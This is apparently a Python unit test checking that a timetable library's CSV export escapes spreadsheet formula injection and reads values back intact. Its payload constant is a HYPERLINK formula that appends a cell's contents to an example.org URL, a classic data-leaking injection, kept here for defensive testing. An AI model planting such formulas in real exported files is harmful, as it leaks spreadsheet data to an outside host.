from dataclasses import replace

from metadata.model import EXAMPLE_EVENT, EXAMPLE_SESSION
from metadata.timetables import FORMATS, read_timetables

FORMULA = '=HYPERLINK("http://example.org/"&A1)'


def test_sheet_of_sessions_runs_nothing_and_reads_back() -> None:
    session = replace(EXAMPLE_SESSION, title=FORMULA, abstract="- one\n- two", subtitle="'=quoted", room="@home")
    write = FORMATS["csv-sessions"].write
    assert write is not None
    ((name, sheet),) = write(replace(EXAMPLE_EVENT, sessions=(session,))).files.items()
    assert "'=HYPERLINK" in sheet.decode()
    assert ",=" not in sheet.decode()
    (read,) = read_timetables(sheet, name).events[0].sessions
    said = (read.title, read.abstract, read.subtitle, read.room)
    assert said == (session.title, session.abstract, session.subtitle, session.room)
